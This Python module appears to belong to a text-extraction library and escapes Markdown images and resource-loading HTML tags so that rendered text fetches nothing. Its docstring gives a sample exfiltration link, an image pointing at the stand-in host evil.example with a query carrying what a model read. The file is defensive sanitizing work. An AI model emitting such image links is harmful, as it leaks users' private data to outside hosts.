"""Markdown that loads nothing by itself: what a client would fetch as soon as it shows a text stays text.

A picture's address can carry away what a model knows (`![](https://evil.example/?what-it-read)`). Pages have their own
escapes while they are written (`writing/escapes.py`); here are those of texts that came as they are. A backslash before
a sign takes its meaning, and taking the backslash away gives the text back. Only code between fences that nobody can
take for anything else is left alone: what is code within a line depends on all that stands before it.
"""

import re
from collections.abc import Iterator

from gossamer.extractors.html.markdown.inline import begins_a_tag, is_escaped
from gossamer.extractors.text.raw_html import KEPT_ATTRIBUTES, LOADING

_SIGN = re.compile(r"!(?=\[)|<(?=[a-z/!?])", re.IGNORECASE)
_NAME = re.compile(r"<([a-z][\w:.-]{0,60})(\s*/?>)?", re.IGNORECASE)
_ALWAYS = frozenset({"style", "script", "svg"})
"""What stands within these is loaded, whatever the tag itself says."""
_HARMLESS = re.compile(
    rf"<[a-z][\w-]*(?: (?:{'|'.join(sorted(KEPT_ATTRIBUTES))})=\"[^\"<>\n]{{0,2000}}\")*(?: /)?>", re.IGNORECASE
)
_OPENS = re.compile(r"(`{3,})[^`|\n]*$|(~{3,})[^|\n]*$", re.MULTILINE)
_FENCE = re.compile(r"^[ \t>*+.)0-9-]*(?:```|~~~)", re.MULTILINE)
_TAG_BEGINS = re.compile(r"[ \t>*+.)0-9-]*<")
_LONGEST = 4_000
"""Characters of a tag that are looked at."""
_NEAR = 3
"""More blanks before the marks of a fence make them code."""
_RAW = re.compile(r"<(?:pre|textarea|script|style|!|\?)", re.IGNORECASE)
"""What goes on behind an empty line until it is closed: where it may stand, no fence is certain."""


def disarmed(text: str, *, is_markdown: bool) -> str:
    """The text with a backslash before each picture and each tag.

    Tags of Markdown mean something, and `remarks.uncommented` has left nothing in them that is not seen: of those that
    could load something the sign itself is written otherwise, since within HTML a backslash is nothing but itself.
    """
    if not _SIGN.search(text):
        return text

    def escaped(sign: re.Match[str]) -> str:
        at, part = sign.start(), sign.string
        if is_markdown and sign[0] == "<":
            return "&lt;" if _is_loading(part, at) else "<"
        is_left = is_escaped(part, at) or (sign[0] == "<" and not begins_a_tag(part, at))
        return sign[0] if is_left else f"\\{sign[0]}"

    parts = _parts(text, may_be_html=is_markdown)
    return "".join(part if is_code else _SIGN.sub(escaped, part) for part, is_code in parts)


def _is_loading(text: str, at: int) -> bool:
    """Whether a tag could load something: it has attributes, and others than those that load nothing."""
    tag = _NAME.match(text, at)
    if tag is None:
        return False
    name, is_bare = tag[1].lower(), tag[2] is not None
    if name in _ALWAYS:
        return True
    end = text.find(">", at, at + _LONGEST)
    has_values = "=" in text[at : end if end >= 0 else at + _LONGEST]
    return not is_bare and (name in LOADING or (has_values and _HARMLESS.match(text, at) is None))


def _parts(text: str, *, may_be_html: bool) -> Iterator[tuple[str, bool]]:
    """The text in its order, in parts between fences and parts that are not.

    Behind the first fence of which it is not certain where it begins or ends, nothing is taken for code.
    """
    if _FENCE.search(text) is None or (may_be_html and _RAW.search(text)):
        yield text, False
        return
    lines, fence, is_certain, is_tag_before = list[str](), "", True, False
    for line in text.splitlines(keepends=True):
        opening = _OPENS.match(line) if is_certain and not fence and not is_tag_before else None
        if opening:
            yield "".join(lines), False
            lines, fence = [], opening[1] or opening[2]
        elif fence and _closes(line, fence):
            yield "".join((*lines, line)), True
            lines, fence = [], ""
            continue
        elif not fence and _FENCE.match(line):
            is_certain = False
        is_tag_before = may_be_html and bool(line.strip()) and (is_tag_before or _TAG_BEGINS.match(line) is not None)
        is_tag_before = is_tag_before and not fence
        lines.append(line)
    yield "".join(lines), bool(fence)


def _closes(line: str, fence: str) -> bool:
    marks = line.lstrip(" ")
    is_near, marks = len(line) - len(marks) <= _NEAR, marks.rstrip(" \t\n")
    return is_near and len(marks) >= len(fence) and not marks.strip(fence[0])
